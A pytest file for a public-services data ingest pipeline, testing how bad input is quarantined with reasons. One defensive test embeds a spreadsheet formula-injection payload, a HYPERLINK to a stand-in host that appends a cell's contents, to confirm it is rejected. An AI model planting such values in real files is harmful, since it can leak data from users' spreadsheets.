"""Bad input gets a clear error and loses nothing: every row is accepted or quarantined with a reason."""

from __future__ import annotations

from pathlib import Path

import pandas as pd
import pytest

from pipelines.feeds import FEED_SPECS
from pipelines.ingest.reader import DeliveryRejected, read_delivery
from tests.feed_rows import rows, value_for, write_delivery

POLICE = FEED_SPECS["police_incidents"]
COUNCIL = FEED_SPECS["council_contacts"]  # cp1252
AMBULANCE = FEED_SPECS["ambulance_calls"]  # pipe-delimited
OTHERS = tuple(FEED_SPECS.values())


def _read(path: Path, spec=POLICE):
    delivery = read_delivery(spec, path, OTHERS)
    assert delivery.rows_received == delivery.rows_loaded + delivery.rows_quarantined
    return delivery


@pytest.mark.parametrize("spec", list(FEED_SPECS.values()), ids=list(FEED_SPECS))
def test_every_feed_reads_its_own_clean_delivery(spec, tmp_path: Path) -> None:
    delivery = _read(write_delivery(spec, tmp_path, n=12), spec)
    assert delivery.rows_loaded == 12
    assert delivery.rows_quarantined == 0
    assert delivery.period == "2024-01"


def test_utf8_bom_is_removed_and_noted(tmp_path: Path) -> None:
    path = write_delivery(POLICE, tmp_path, n=3, encoding="utf-8-sig")
    delivery = _read(path)
    assert delivery.rows_loaded == 3
    assert "INCIDENT_REF" in delivery.accepted.columns
    assert any("byte-order mark" in n for n in delivery.notes)


def test_cp1252_feed_keeps_accented_names(tmp_path: Path) -> None:
    body = rows(COUNCIL, 2)
    name_col = COUNCIL.column_names.index("ClientName")
    body[0][name_col] = "Zoë Ó Súilleabháin"
    delivery = _read(write_delivery(COUNCIL, tmp_path, body=body), COUNCIL)
    assert delivery.accepted["ClientName"].iloc[0] == "Zoë Ó Súilleabháin"


def test_cp1252_bytes_in_a_utf8_feed_are_decoded_not_lost(tmp_path: Path) -> None:
    body = rows(POLICE, 2)
    body[1][POLICE.column_names.index("SUBJECT_SURNAME")] = "Renée"
    path = write_delivery(POLICE, tmp_path, body=body, encoding="cp1252")
    delivery = _read(path)
    assert delivery.rows_loaded == 2
    assert delivery.accepted["SUBJECT_SURNAME"].iloc[1] == "Renée"
    assert [a.code for a in delivery.alerts] == ["encoding_mismatch"]
    assert "utf-8" in delivery.alerts[0].message and "cp1252" in delivery.alerts[0].message


def test_a_different_delimiter_is_detected(tmp_path: Path) -> None:
    delivery = _read(write_delivery(AMBULANCE, tmp_path, n=4, delimiter=","), AMBULANCE)
    assert delivery.rows_loaded == 4
    assert any("delimiter" in n for n in delivery.notes)


def test_missing_required_column_rejects_the_file_naming_the_column(tmp_path: Path) -> None:
    header = [c for c in POLICE.column_names if c != "OPENED_DT"]
    body = [[v for c, v in zip(POLICE.column_names, r, strict=True) if c != "OPENED_DT"] for r in rows(POLICE, 3)]
    with pytest.raises(DeliveryRejected) as err:
        read_delivery(POLICE, write_delivery(POLICE, tmp_path, header=header, body=body), OTHERS)
    assert err.value.reason == "missing_columns"
    assert "OPENED_DT" in err.value.message


def test_missing_optional_column_loads_as_empty(tmp_path: Path) -> None:
    header = [c for c in POLICE.column_names if c != "UNITS_ASSIGNED"]
    body = [[v for c, v in zip(POLICE.column_names, r, strict=True) if c != "UNITS_ASSIGNED"] for r in rows(POLICE, 3)]
    delivery = _read(write_delivery(POLICE, tmp_path, header=header, body=body))
    assert delivery.rows_loaded == 3
    assert delivery.accepted["UNITS_ASSIGNED"].isna().all()


def test_extra_column_is_ignored_and_noted_without_its_values(tmp_path: Path) -> None:
    header = [*POLICE.column_names, "Jane Smith"]  # a header cell that is really a value
    body = [[*r, "secret value"] for r in rows(POLICE, 2)]
    delivery = _read(write_delivery(POLICE, tmp_path, header=header, body=body))
    assert delivery.rows_loaded == 2
    assert "Jane Smith" not in delivery.accepted.columns
    assert any(f"position(s) {len(header)}" in n for n in delivery.notes)
    assert not any("secret value" in n or "Jane" in n for n in delivery.notes)


def test_renamed_columns_by_case_and_punctuation_still_match(tmp_path: Path) -> None:
    header = [c.lower().replace("_", " ") for c in POLICE.column_names]
    assert _read(write_delivery(POLICE, tmp_path, n=2, header=header)).rows_loaded == 2


def test_truncated_last_line_is_quarantined_not_lost(tmp_path: Path) -> None:
    path = write_delivery(POLICE, tmp_path, n=4)
    data = path.read_bytes()
    path.write_bytes(data[: len(data) - 40])  # cut the last row short
    delivery = _read(path)
    assert delivery.rows_received == 4
    assert delivery.rows_loaded == 3
    assert list(delivery.rejected["reason"]) == ["field_count"]
    assert list(delivery.rejected["_source_row"]) == [5]


def test_empty_file_is_rejected(tmp_path: Path) -> None:
    path = tmp_path / "CAD_EXPORT_2024-01.csv"
    path.write_bytes(b"")
    with pytest.raises(DeliveryRejected) as err:
        read_delivery(POLICE, path, OTHERS)
    assert err.value.reason == "empty_file"


def test_header_only_file_loads_zero_rows_and_says_so(tmp_path: Path) -> None:
    path = write_delivery(POLICE, tmp_path, body=[])
    delivery = _read(path)
    assert delivery.rows_received == 0
    assert [a.code for a in delivery.alerts] == ["no_rows"]
    assert path.name in delivery.alerts[0].message


def test_a_delivery_with_rows_says_nothing(tmp_path: Path) -> None:
    assert _read(write_delivery(POLICE, tmp_path, n=3)).alerts == []


@pytest.mark.parametrize("fault", ["wrong_feed", "missing_columns", "nul_in_header"])
def test_a_file_held_whole_reports_the_rows_it_holds(fault: str, tmp_path: Path) -> None:
    if fault == "wrong_feed":
        path = write_delivery(AMBULANCE, tmp_path, n=7, name="CAD_EXPORT_2024-01.csv")
    elif fault == "missing_columns":
        header = [c for c in POLICE.column_names if c != "OPENED_DT"]
        body = [[v for c, v in zip(POLICE.column_names, r, strict=True) if c != "OPENED_DT"] for r in rows(POLICE, 7)]
        path = write_delivery(POLICE, tmp_path, header=header, body=body)
    else:
        path = write_delivery(POLICE, tmp_path, n=7, header=["INCIDENT\x00REF", *POLICE.column_names[1:]])
    data = path.read_bytes()
    path.write_bytes(data + b"\r\n\r\n")  # blank lines at the end are not rows
    with pytest.raises(DeliveryRejected) as err:
        read_delivery(POLICE, path, OTHERS)
    assert err.value.reason == fault
    assert err.value.rows == 7


def test_ten_megabyte_field_is_quarantined_with_its_column(tmp_path: Path) -> None:
    body = rows(POLICE, 3)
    body[1][POLICE.column_names.index("LOG_NARRATIVE")] = "x" * 10_000_000
    delivery = _read(write_delivery(POLICE, tmp_path, body=body))
    assert delivery.rows_loaded == 2
    assert delivery.rejected.iloc[0][["reason", "column"]].tolist() == ["field_too_long", "LOG_NARRATIVE"]


def test_formula_injection_is_quarantined(tmp_path: Path) -> None:
    body = rows(POLICE, 3)
    body[2][POLICE.column_names.index("SUBJECT_SURNAME")] = '=HYPERLINK("http://x.example/?a="&A1,"click")'
    delivery = _read(write_delivery(POLICE, tmp_path, body=body))
    assert delivery.rejected.iloc[0][["reason", "column"]].tolist() == ["formula_injection", "SUBJECT_SURNAME"]


def test_dates_in_three_formats_declared_and_unambiguous_load_and_ambiguous_us_dates_do_not(tmp_path: Path) -> None:
    body = rows(POLICE, 6)
    dob = POLICE.column_names.index("SUBJECT_DOB")
    body[0][dob] = "07/03/1985"  # the feed's own dd/mm/yyyy
    body[1][dob] = "1985-03-07"  # ISO
    body[2][dob] = "07-Mar-1985"  # month name
    body[3][dob] = "03/27/1985"  # US month-first: cannot be the feed's format
    body[4][dob] = "25/12/1990"  # day-first only: the file's order is the declared one
    body[5][dob] = "14/02/1979"
    delivery = _read(write_delivery(POLICE, tmp_path, body=body))
    assert delivery.rows_loaded == 5
    assert [str(d) for d in delivery.accepted["SUBJECT_DOB"][:3]] == ["1985-03-07"] * 3
    assert delivery.rejected.iloc[0][["reason", "column"]].tolist() == ["invalid_date", "SUBJECT_DOB"]


def test_nul_bytes_in_a_row_quarantine_that_row(tmp_path: Path) -> None:
    body = rows(POLICE, 3)
    body[0][POLICE.column_names.index("SUBJECT_FORENAMES")] = "Jo\x00hn"
    delivery = _read(write_delivery(POLICE, tmp_path, body=body))
    assert delivery.rows_loaded == 2
    assert delivery.rejected.iloc[0]["reason"] == "nul_byte"


def test_another_feeds_file_in_the_wrong_folder_is_rejected_naming_that_feed(tmp_path: Path) -> None:
    path = write_delivery(AMBULANCE, tmp_path, n=3, name="CAD_EXPORT_2024-01.csv")
    with pytest.raises(DeliveryRejected) as err:
        read_delivery(POLICE, path, OTHERS)
    assert err.value.reason == "wrong_feed"
    assert "ambulance_calls" in err.value.message


def test_unknown_code_quarantines_the_row(tmp_path: Path) -> None:
    body = rows(POLICE, 2)
    body[0][POLICE.column_names.index("OPENING_CODE")] = "NEWCODE"
    delivery = _read(write_delivery(POLICE, tmp_path, body=body))
    assert delivery.rejected.iloc[0][["reason", "column"]].tolist() == ["unknown_code", "OPENING_CODE"]


def test_reasons_never_carry_the_value(tmp_path: Path) -> None:
    body = rows(POLICE, 2)
    body[0][POLICE.column_names.index("SUBJECT_DOB")] = "Margaret Thatcher"
    delivery = _read(write_delivery(POLICE, tmp_path, body=body))
    rejected = delivery.rejected.drop(columns=["raw_row"])
    assert "Margaret" not in rejected.to_csv()


def test_value_builder_covers_every_column() -> None:
    for spec in FEED_SPECS.values():
        assert all(value_for(spec, c, 1) for c in spec.columns)


def test_rows_repeated_whole_are_quarantined_once_and_counts_reconcile(tmp_path: Path) -> None:
    from pipelines.ingest.load import load_period
    from pipelines.settings import Zones

    zones = Zones(tmp_path)
    body = rows(POLICE, 4)
    body.append(list(body[1]))  # the same row sent twice
    write_delivery(POLICE, zones.landing / POLICE.name, body=body)
    result = load_period(POLICE, "2024-01", zones, OTHERS)
    assert (result.rows_received, result.rows_loaded, result.rows_quarantined) == (5, 4, 1)
    assert result.reasons == {"duplicate_row": 1}


def test_ingest_keeps_records_of_opted_out_people_for_linkage_which_decides_the_opt_out(tmp_path: Path) -> None:
    """The opt-out covers people, so linkage must see every record; it is applied after (pipelines.linkage.opt_out)."""
    from pipelines.ingest.load import load_period
    from pipelines.linkage.opt_out import OPT_OUT_FILE
    from pipelines.settings import Zones

    zones = Zones(tmp_path)
    ed = FEED_SPECS["ed_attendances"]
    body = rows(ed, 4)
    opted = body[2][ed.column_names.index("NHS_Number")]
    zones.identity.mkdir(parents=True)
    (zones.identity / OPT_OUT_FILE).write_text(f"nhs_number\n{opted}\n")
    write_delivery(ed, zones.landing / ed.name, body=body)
    result = load_period(ed, "2024-01", zones, OTHERS)
    assert (result.rows_received, result.rows_loaded, result.rows_excluded) == (4, 4, 0)
    accepted = pd.read_parquet(tmp_path / "landing" / "_accepted" / ed.name / "2024-01.parquet")
    assert opted in set(accepted["NHS_Number"])  # identifiable zone only, for linkage
